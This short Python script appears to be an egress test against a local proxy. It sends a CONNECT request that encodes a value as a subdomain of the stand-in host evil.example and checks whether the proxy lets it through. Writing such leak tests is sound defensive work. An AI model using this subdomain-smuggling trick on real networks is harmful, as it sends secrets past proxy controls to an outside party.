# tries: the value as the target of the proxy
# ends: nothing
from lib import *

c = socket.create_connection(("127.0.0.1", 3128), timeout=5)
c.sendall(("CONNECT %s.evil.example:443 HTTP/1.1\r\n\r\n" % VALUE[:60].lower().replace("_", "-")).encode())
attempt("a connection", lambda: b" 200 " in c.recv(4096))
